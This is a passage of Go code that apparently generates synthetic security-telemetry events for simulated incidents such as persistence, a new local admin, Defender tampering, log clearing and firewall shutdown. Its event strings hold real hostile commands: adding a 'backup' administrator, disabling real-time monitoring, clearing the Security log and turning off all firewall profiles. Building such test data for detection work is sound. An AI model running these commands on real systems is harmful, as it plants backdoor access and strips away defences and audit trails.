				e := ev(randTime(r, d), "PowerShellCommand", mc.userOr(false), map[string]any{"Command": "Get-CimInstance"})
				e.init = g.proc(g.bin("powershell.exe"), `powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\Windows\CCM\SystemTemp\inventory.ps1"`, systemAccount)
			}
		}
		task := `\OneDrive Standalone Update`
		switch inc {
		case "persistence-task":
			e := ev(at+int64(time.Second), "ScheduledTaskCreated", mc.admin, map[string]any{"TaskName": task,
				"TaskContent": `{"Actions":{"Exec":{"Command":"C:\\Users\\Public\\updater.exe"}},"Triggers":{"LogonTrigger":{}}}`})
			e.init = g.proc(g.bin("schtasks.exe"), "schtasks /create", mc.admin)
		case "persistence-service":
			e := ev(at+int64(time.Second), "ServiceInstalled", systemAccount, map[string]any{"ServiceName": "WinSvcHelper",
				"ServiceStartType": 2, "ServiceType": 16, "ServiceAccount": "LocalSystem"})
			e.file = hashedBinary("updater.exe", `C:\Users\Public`, "", "", 73_216, "Unsigned")
			e.init = g.proc(g.bin("services.exe"), "services.exe", systemAccount)
		case "new-local-admin":
			if mc.fam == linux {
				break
			}
			e := ev(at+int64(time.Second), "UserAccountCreated", account{strings.ToLower(shortName(mc.m)), "backup", ""}, nil)
			e.init = g.proc(g.bin("net1.exe"), "net1 user backup /add", mc.admin)
			e = ev(at+int64(4*time.Second), "UserAccountAddedToLocalGroup", account{strings.ToLower(shortName(mc.m)), "backup", ""},
				map[string]any{"GroupName": "Administrators", "GroupDomainName": "BUILTIN", "GroupSid": "S-1-5-32-544"})
			e.init = g.proc(g.bin("net1.exe"), "net1 localgroup administrators backup /add", mc.admin)
		case "usb":
			e := ev(at, "UsbDriveMounted", mc.user, map[string]any{"DriveLetter": "E:", "Manufacturer": "SanDisk", "ProductName": "Ultra", "SerialNumber": strconv.FormatInt(r.Int64N(1<<40), 16)})
			e.init = g.proc(g.bin("svchost.exe"), "svchost.exe -k LocalSystemNetworkRestricted", systemAccount)
			ev(at-int64(time.Second), "PnpDeviceConnected", systemAccount, map[string]any{"ClassName": "USB", "DeviceDescription": "USB Mass Storage Device"})
		case "defender-tampering":
			e := ev(at+int64(2*time.Second), "TamperingAttempt", mc.admin, map[string]any{"TamperingAction": "RegistryModification",
				"Status": "Blocked", "Target": `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`})
			e.init = g.proc(g.bin("powershell.exe"), `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true`, mc.admin)
		case "encoded-powershell", "credential-dump":
			name := map[string]string{"encoded-powershell": "Trojan:PowerShell/Downloader.A", "credential-dump": "HackTool:Win32/DumpLsass.A"}[inc]
			e := ev(at+int64(5*time.Second), "AntivirusDetection", account{}, map[string]any{"ThreatName": name, "WasRemediated": true, "WasExecutingWhileDetected": false})
			e.init = g.proc(g.bin("MsMpEng.exe"), "MsMpEng.exe", systemAccount)
		case "log-cleared":
			e := ev(at+int64(time.Second), "SecurityLogCleared", mc.admin, nil)
			e.init = g.proc(g.bin("wevtutil.exe"), "wevtutil cl Security", mc.admin)
		case "firewall-off":
			e := ev(at+int64(time.Second), "FirewallServiceStopped", mc.admin, nil)
			e.init = g.proc(g.bin("netsh.exe"), "netsh advfirewall set allprofiles state off", mc.admin)
		}
	}, emit)
}
